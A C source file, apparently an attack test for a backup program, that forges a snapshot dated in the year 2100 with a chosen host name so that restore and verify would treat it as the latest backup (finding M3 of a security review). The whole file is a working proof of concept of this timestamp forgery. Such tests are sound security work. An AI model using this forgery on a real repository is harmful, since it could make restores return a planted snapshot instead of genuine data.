/*
 * evil_future REPO WRITE_KEY [--time UNIX_SECONDS] [--host HOST]
 *
 * The attack of the December 2026 security review (M3): a snapshot's time
 * and host are whatever its writer says.  Write a complete, well-formed
 * snapshot holding one small harmless file, dated (by default) 2100-01-01
 * 00:00:00 UTC, so that it stays the one with the greatest time after every
 * later, genuine backup: restore's "latest" and verify's volume parity used
 * to pick it.
 *
 * Prints the forged snapshot as "snapshot NAME".
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "evil.h"

int
main(int argc, char **argv)
{
	static const char note[] = "nothing to see here: a harmless file from 2100\n";
	static char path[] = "README-from-the-future.txt";
	int64_t when = 4102444800; /* 2100-01-01T00:00:00Z */
	const char *host = "testhost";
	struct evil_entry v[1];
	char name[GS_NAME_HEX];
	struct evil e;

	if (argc < 3)
		evil_die("usage: evil_future REPO WRITE_KEY [--time UNIX_SECONDS] [--host HOST]");
	for (int i = 3; i < argc; i++) {
		if (strcmp(argv[i], "--time") == 0 && i + 1 < argc)
			when = strtoll(argv[++i], NULL, 10);
		else if (strcmp(argv[i], "--host") == 0 && i + 1 < argc)
			host = argv[++i];
		else
			evil_die("unknown argument %s", argv[i]);
	}
	evil_open(&e, argv[1], argv[2]);
	memset(v, 0, sizeof(v));
	v[0].e.type = GS_FT_FILE;
	v[0].e.path = path;
	v[0].e.mode = 0644;
	v[0].e.mtime_sec = when;
	v[0].content = (const uint8_t *)note;
	v[0].len = sizeof(note) - 1;
	evil_snapshot(&e, v, 1, when * 1000000000, host, name);
	printf("snapshot %s\n", name);
	fprintf(stderr, "evil: snapshot %s dated %lld (host %s)\n", name, (long long)when, host);
	evil_close(&e);
	return 0;
}
